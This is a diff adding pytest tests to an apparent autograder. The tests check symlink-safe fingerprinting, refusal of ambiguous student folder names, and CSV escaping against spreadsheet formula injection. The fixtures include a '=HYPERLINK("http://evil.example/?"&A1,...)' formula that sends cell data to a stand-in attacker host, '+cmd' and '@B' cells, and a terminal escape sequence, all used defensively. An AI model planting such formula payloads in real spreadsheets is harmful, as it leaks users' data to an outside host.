@@ -2,6 +2,7 @@
 from __future__ import annotations
 
 import csv
+import io
 import json
 import shutil
 import subprocess
@@ -141,6 +142,128 @@ def test_a_rerun_regrades_only_what_changed(graded, fast_root):
     document = json.loads((out / "results" / "correct0.json").read_text())
     assert any("could not be imported" in t["feedback"] for t in document["tests"] if t["function"].startswith("rnn."))
 
+
+
+def test_a_rerun_never_reads_through_a_symbolic_link(tmp_path):
+    """What a submission holds is fingerprinted without following its links: a link to a 600 MB file (sparse:
+    no disk) costs neither its size in memory nor the time to read it; the link itself counts, so pointing it
+    elsewhere is a change."""
+    import time
+    import tracemalloc
+
+    from gatelab.grading.batch import fingerprint
+
+    folder = write_submission(tmp_path / "jsmith", {})
+    with open(tmp_path / "huge.bin", "wb") as huge:
+        huge.truncate(600 * 2**20)
+    (folder / "data.py").symlink_to(tmp_path / "huge.bin")
+    tracemalloc.start()
+    started = time.monotonic()
+    try:
+        before = fingerprint(folder)
+        peak = tracemalloc.get_traced_memory()[1]
+    finally:
+        tracemalloc.stop()
+    assert peak < 16 * 2**20 and time.monotonic() - started < 2, (peak, time.monotonic() - started)
+    (tmp_path / "other.bin").write_bytes(b"")
+    (folder / "data.py").unlink()
+    (folder / "data.py").symlink_to(tmp_path / "other.bin")
+    assert fingerprint(folder) != before
+    (folder / "rnn.py").write_text("changed\n")
+    assert fingerprint(folder) != before
+
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"see feedback")'
+ROSTER = [["Student", "ID", "SIS User ID", "SIS Login ID", "Section"],
+          ["    Points Possible", "", "", "", "", ""],
+          ["Smith, Jo", "101", "S101", "jsmith", "A"], ["Doe, Ann\x1b[2J", "102", "S102", "adoe", "A"],
+          [HYPERLINK, "103", "S103", "hyper", "@B"], ["Kim, Lee", "104", "S104", "lkim", "B"]]
+
+
+@pytest.fixture(scope="module")
+def rostered(fast_root, tmp_path_factory):
+    """A class graded through the CLI with a real Canvas roster: two folders that clean up to one student
+    (jsmith, !jsmith), two that name one roster row differently (S102, 102), a student named like a formula,
+    a folder named like one, and an ordinary student."""
+    base = tmp_path_factory.mktemp("rostered")
+    folder = base / "submissions"
+    write_submission(folder / "jsmith", {})
+    (folder / "!jsmith").mkdir()
+    write_submission(folder / "S102", {})
+    (folder / "102").mkdir()
+    (folder / "hyper").mkdir()
+    (folder / "+cmd").mkdir()
+    write_submission(folder / "lkim", {})
+    with open(base / "roster.csv", "w", newline="", encoding="utf-8") as handle:
+        csv.writer(handle).writerows(ROSTER)
+    out = base / "out"
+    result = CliRunner().invoke(main, ["batch", str(folder), "--out", str(out), "--jobs", "2", "--roster",
+                                       str(base / "roster.csv"), "--assignment", str(fast_root)])
+    assert result.exit_code == 0, result.output
+    with open(out / "grades.csv", newline="", encoding="utf-8") as handle:
+        rows = list(csv.reader(handle))
+    return out, rows, result.output
+
+
+def test_two_folders_of_one_student_never_swap_or_share_a_roster_row(rostered):
+    """jsmith and !jsmith both read as jsmith, S102 and 102 both name Ann Doe: none of the four takes a row
+    (no row is chosen by sort order), each pair is named in one message (the roster's names spelt out for the
+    terminal), the page lists them as
+    unresolved, and the rest of the class is graded into its own rows."""
+    out, rows, output = rostered
+    logins = [row[3] for row in rows[2:]]
+    assert "jsmith" not in logins and "adoe" not in logins, rows
+    assert len(logins) == len(set(logins))
+    assert "!jsmith" in output and "'jsmith'" in output and "clean up to the same student" in output
+    assert "S102" in output and "'102'" in output and "Doe, Ann\\x1b[2J" in output and "\x1b" not in output
+    page = (out / "summary.html").read_text()
+    assert "Unresolved:" in page and "!jsmith" in page and "S102" in page
+    kim = next(row for row in rows[2:] if row[3] == "lkim")
+    assert kim[:5] == ROSTER[5][:5] and float(kim[5]) > 0
+    assert not (out / "results" / "jsmith.json").exists() and not (out / "results" / "adoe.json").exists()
+
+
+def test_names_that_clean_up_alike_are_all_refused_whatever_their_order(tmp_path):
+    """Case, punctuation and a zip's suffix do not tell students apart: every folder of such a group is
+    refused with a message naming the whole group, and a student alone keeps their name."""
+    from gatelab.grading.batch import sort_out
+
+    for name in ("JSmith", "jsmith", "ann", "Ann!", "bob"):
+        (tmp_path / name).mkdir()
+    (tmp_path / "jsmith.zip").write_bytes(b"")
+    found, refused = sort_out(tmp_path)
+    assert list(found) == ["bob"]
+    assert sorted(p.name for p in refused) == ["Ann!", "JSmith", "ann", "jsmith", "jsmith.zip"]
+    assert all("'JSmith', 'jsmith', 'jsmith.zip'" in refused[tmp_path / n] for n in ("JSmith", "jsmith.zip"))
+    assert "'Ann!', 'ann'" in refused[tmp_path / "ann"]
+
+def test_grades_csv_cells_that_a_spreadsheet_would_run_are_escaped(rostered):
+    """A student named =HYPERLINK(...) in the roster, a section @B and a folder named +cmd come out with a
+    leading quote (OWASP's rule) as Python's csv reads them; scores stay plain numbers."""
+    _, rows, _ = rostered
+    hyper = next(row for row in rows[2:] if row[3] == "hyper")
+    assert hyper[0] == "'" + HYPERLINK and hyper[4] == "'@B" and hyper[1:4] == ["103", "S103", "hyper"]
+    command = next(row for row in rows[2:] if row[0].endswith("+cmd"))
+    assert command[:4] == ["'+cmd", "", "'+cmd", "'+cmd"]
+    for row in rows[1:]:
+        float(row[5])
+    for row in rows:
+        assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for cell in row[:5]), row
+
+
+def test_only_text_cells_are_escaped_negative_scores_stay_numbers():
+    """A negative score (a penalty) is a number, not a formula: written as -1.5; a student named -1.5 is
+    text, and escaped."""
+    from gatelab.grading.batch import Row
+    from gatelab.report import classbook
+
+    rows = [Row("-1.5", "/class/-1.5", score=-1.5, max_score=10.0), Row("tab", "/class/tab", score=2.0, max_score=10.0)]
+    roster = [{"Student": "\tTab", "ID": "7", "SIS User ID": "tab", "SIS Login ID": "\rtab", "Section": ""}]
+    text = classbook.canvas_csv(rows, "-Quiz (3)", roster).text
+    header, possible, first, second = csv.reader(io.StringIO(text, newline=""))
+    assert header[5] == "'-Quiz (3)" and possible[5] == "10"
+    assert first == ["'-1.5", "", "'-1.5", "'-1.5", "", "-1.5"]
+    assert second == ["'\tTab", "7", "tab", "'\rtab", "", "2"]
 
 @pytest.mark.skipif(CHROMIUM is None, reason="no Chromium installed here (apt install chromium) to render the page")
 def test_the_summary_renders_in_a_browser(graded, tmp_path):
